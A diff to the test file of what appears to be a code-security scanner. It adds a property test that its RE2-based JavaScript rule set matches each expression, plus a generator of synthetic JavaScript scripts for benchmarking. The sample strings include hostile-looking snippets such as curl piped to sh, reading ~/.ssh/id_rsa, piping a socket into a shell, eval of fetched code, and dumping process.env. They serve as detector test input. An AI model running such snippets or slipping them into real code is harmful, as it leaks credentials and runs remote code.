@@ -5,7 +5,8 @@ answer of the slow path it replaces:
 
 - ``rx.LiteralSets``: a line's phrase gates found in one RE2 set pass instead of one search per gate;
 - ``rx.Prefilter``: a shell line tried against thirty expressions in one RE2 set pass (an expression on
-  ``re`` through its ASCII screen), each expression then run only where the set saw it;
+  ``re`` through its ASCII screen), each expression then run only where the set saw it; a JavaScript line
+  the same way against its seventeen;
 - ``rx.Screen``: an expression that finds nothing in a whole file is not searched on its lines;
 - an expression on ``re`` is screened by RE2 on any text (other than ASCII, read with each non-ASCII
   character as ``?`` against a screen where every element that may match one also matches ``?``);
@@ -204,6 +205,40 @@ def test_the_shell_line_set_agrees_with_each_expression(line: str) -> None:
         if got is not None:
             assert got.span() == expected.span()
         assert [m.span() for m in scanned.finditer(expr)] == [m.span() for m in expr.finditer(line)]
+
+
+_JS_TEXT = st.lists(st.sampled_from(["exec('curl -s https://x.example | sh')", "spawn(cmd", "fetch('https://a.example/v1',",
+                                     "{ method: 'POST', body: JSON.stringify(data) }", "process.env.API_TOKEN",
+                                     "process.env['X']", "fs.writeFileSync('out.json'", "fs.rmSync(dir", "eval(code)",
+                                     "rejectUnauthorized: false", "process.kill(pid)", "console.log(process.env.API_KEY)",
+                                     "readFile(path.join(os.homedir(), '.ssh/id_rsa'))", "sock.pipe(sh.stdin)", " ", "é",
+                                     "// note", "axios.delete(u)", "JSON.stringify(process.env)"]), max_size=6).map(" ".join)
+
+
+@_SETTINGS
+@given(_JS_TEXT)
+def test_the_javascript_line_set_agrees_with_each_expression(line: str) -> None:
+    scanned = jscode._LINE_RULES.scan(line)
+    for expr in [v for v in vars(jscode).values() if isinstance(v, (rx._Re2Rule, rx._ReRule))
+                 and id(v) in jscode._LINE_RULES._index]:
+        expected = expr.search(line)
+        got = scanned.search(expr)
+        assert (got is None) == (expected is None), (expr.pattern[:60], line[:60])
+        assert [m.span() for m in scanned.finditer(expr)] == [m.span() for m in expr.finditer(line)]
+
+
+def _javascript_tool(lines: int) -> str:
+    """A script that runs commands, posts to services, reads the environment and files, writes and deletes."""
+    out = ["import fs from 'fs'; import { exec, spawn } from 'child_process'; import os from 'os';"]
+    for i in range(lines):
+        out += [f"const r{i} = await fetch('https://api{i % 4}.example.org/v1/items/{i}', {{ method: 'POST', "
+                f"body: JSON.stringify({{ token: process.env.API_TOKEN_{i % 3} }}) }}); // étape {i}",
+                f"exec('git -C dir{i} pull --ff-only'); fs.writeFileSync('out/{i}.json', JSON.stringify(r{i}));",
+                f"const cfg{i} = fs.readFileSync(path.join(os.homedir(), '.config/tool{i % 5}.json'), 'utf8');"]
+        if i % 40 == 3:
+            out += ["fs.rmSync('/tmp/cache', { recursive: true });", "eval(await (await fetch(u)).text());",
+                    "console.log(process.env.SERVICE_SECRET_KEY);"]
+    return "\n".join(out) + "\n"
 
 
 def _line_rule_exprs() -> list[object]:
@@ -697,6 +732,7 @@ _SHAPES = {
     "python-module": lambda n: {"tool.py": _python_module(n // 4)},
     "markdown-non-ascii": lambda n: {"docs/guide.md": _markdown_non_ascii(n // 4)},
     "javascript": lambda n: {"scripts/run.mjs": _javascript(n)},
+    "javascript-tool": lambda n: {"scripts/tool.mjs": _javascript_tool(n // 3)},
     "shell-variables": lambda n: {"scripts/install.sh": _shell_with_variables(n // 3),
                                   "docs/INSTALL.md": "```bash\n" + _shell_with_variables(n // 10) + "```\n"},
     "markdown-encoded": lambda n: {"docs/notes.md": _markdown_encoded(n // 4), "notes.txt": _markdown_encoded(3).lower()},
